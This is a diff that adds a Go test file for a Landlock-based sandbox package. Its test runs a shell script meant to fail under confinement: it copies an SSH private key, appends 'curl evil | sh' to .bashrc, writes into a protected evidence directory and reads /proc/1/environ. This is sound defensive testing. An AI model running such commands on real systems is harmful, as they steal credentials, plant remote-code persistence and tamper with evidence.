@@ -1,0 +1,132 @@
+package confine_test
+
+import (
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/cavra-dev/cavra/confine"
+)
+
+func TestMain(m *testing.M) {
+	confine.Init() // the re-executed child of Command applies Landlock here
+	os.Exit(m.Run())
+}
+
+// needLandlock skips when the kernel has no Landlock, and says so.
+func needLandlock(t testing.TB) confine.Status {
+	t.Helper()
+	st := confine.Probe()
+	if st.ABI == 0 {
+		t.Skipf("skipped: this kernel offers no Landlock (%s)", st.Reason)
+	}
+	return st
+}
+
+// fakeWorld is a home with a key, a shell rc file and a state directory,
+// and a project in a temporary directory.
+type fakeWorld struct {
+	home, project, state, tmp string
+}
+
+func newWorld(t *testing.T) fakeWorld {
+	t.Helper()
+	root := t.TempDir()
+	w := fakeWorld{home: filepath.Join(root, "home"), project: filepath.Join(root, "home", "src", "app"),
+		tmp: filepath.Join(root, "tmp")}
+	w.state = filepath.Join(w.home, ".local", "state", "cavra", "app")
+	for _, d := range []string{w.home + "/.ssh", w.project, w.state, w.tmp, w.home + "/notes", w.home + "/.config/tool"} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	files := map[string]string{
+		w.home + "/.ssh/id_rsa":         "PRIVATE KEY\n",
+		w.home + "/.ssh/known_hosts":    "host\n",
+		w.home + "/.bashrc":             "# rc\n",
+		w.home + "/notes/todo.txt":      "todo\n",
+		w.home + "/.config/tool/a.conf": "conf\n",
+		w.state + "/evidence.db":        "state\n",
+		w.project + "/main.go":          "package main\n",
+	}
+	for f, s := range files {
+		if err := os.WriteFile(f, []byte(s), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return w
+}
+
+func (w fakeWorld) profile(t *testing.T) confine.Profile {
+	return baselineProfile(t, confine.Options{
+		Home: w.home, Project: w.project, Protected: []string{w.state},
+		Writable: []string{w.tmp},
+	})
+}
+
+func TestConfineCommandStopsTheScript(t *testing.T) {
+	needLandlock(t)
+	w := newWorld(t)
+	p := w.profile(t)
+	script := `
+cat ~/.ssh/id_rsa > "$OUT/key" 2>/dev/null && echo "read key"
+echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null && echo "appended rc"
+echo x > "$STATE/planted" 2>/dev/null && echo "wrote state"
+echo y >> "$STATE/evidence.db" 2>/dev/null && echo "changed state"
+cat /proc/1/environ >/dev/null 2>&1 && echo "read environ"
+cat ~/notes/todo.txt >/dev/null && echo "notes ok"
+cat ~/.ssh/known_hosts >/dev/null && echo "known_hosts ok"
+echo built > ./out.txt && echo "project ok"
+echo t > "$TMPDIR/t" && echo "tmp ok"
+true`
+	c, err := confine.Command(context.Background(), p, "/bin/sh", "-c", script)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.Dir = w.project
+	c.Env = append(c.Env, "HOME="+w.home, "OUT="+w.project, "STATE="+w.state, "TMPDIR="+w.tmp)
+	out, err := c.CombinedOutput()
+	if err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	got := string(out)
+	t.Logf("confined script:\n%s", got)
+	for _, bad := range []string{"read key", "appended rc", "wrote state", "changed state", "read environ"} {
+		if strings.Contains(got, bad) {
+			t.Errorf("confined script: %q\n%s", bad, got)
+		}
+	}
+	for _, good := range []string{"notes ok", "known_hosts ok", "project ok", "tmp ok"} {
+		if !strings.Contains(got, good) {
+			t.Errorf("confined script did not print %q\n%s", good, got)
+		}
+	}
+	if b, _ := os.ReadFile(w.home + "/.bashrc"); string(b) != "# rc\n" {
+		t.Errorf(".bashrc changed: %q", b)
+	}
+	if b, _ := os.ReadFile(w.project + "/key"); len(b) != 0 {
+		t.Errorf("key copied: %q", b)
+	}
+	if _, err := os.Stat(w.state + "/planted"); err == nil {
+		t.Error("state directory written")
+	}
+	if !c.Confinement.Enforced || !strings.HasPrefix(c.Confinement.By, "landlock-abi-") || c.Confinement.Profile != p.Digest() {
+		t.Errorf("Confinement = %+v", c.Confinement)
+	}
+}
+
+func TestConfineCommandExitStatus(t *testing.T) {
+	needLandlock(t)
+	w := newWorld(t)
+	c, err := confine.Command(context.Background(), w.profile(t), "sh", "-c", "exit 7")
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = c.Run()
+	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 7 {
+		t.Fatalf("err = %v, want exit status 7", err)
+	}
+}
